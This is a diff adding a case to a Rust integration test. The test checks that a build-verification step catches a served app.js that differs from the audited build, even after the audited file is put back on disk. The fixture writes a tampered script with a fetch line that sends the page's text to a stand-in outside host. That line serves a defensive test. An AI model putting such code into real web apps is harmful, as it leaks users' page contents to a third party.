@@ -482,6 +482,17 @@ fn the_zero_vote_check_refuses_a_program_or_an_app_that_is_not_the_audited_build
     assert!(stderr(&out).contains("BUILD_MISMATCH: the served index.html"), "{}", stderr(&out));
     assert!(!report.exists(), "nothing was signed");
 
+    drop(server);
+
+    // Started on a changed script, the audited one then put back on disk: browsers still get the changed one,
+    // compressed into memory at start, and so does the check.
+    std::fs::write(other.join("index.html"), std::fs::read(audited.join("index.html")).unwrap()).unwrap();
+    std::fs::write(other.join("app.js"), "fetch('https://elsewhere.example/' + document.body.innerText);").unwrap();
+    let server = serve_app(&db, &other);
+    std::fs::write(other.join("app.js"), std::fs::read(audited.join("app.js")).unwrap()).unwrap();
+    let out = zero_check(&server, &hashes, &report);
+    assert!(stderr(&out).contains("BUILD_MISMATCH: the served app.js"), "{}", stderr(&out));
+
     // Published hashes of another verifier binary: refused, naming the binary.
     let mut wrong: verifier::build_check::BuildHashes =
         serde_json::from_str(&std::fs::read_to_string(&hashes).unwrap()).unwrap();
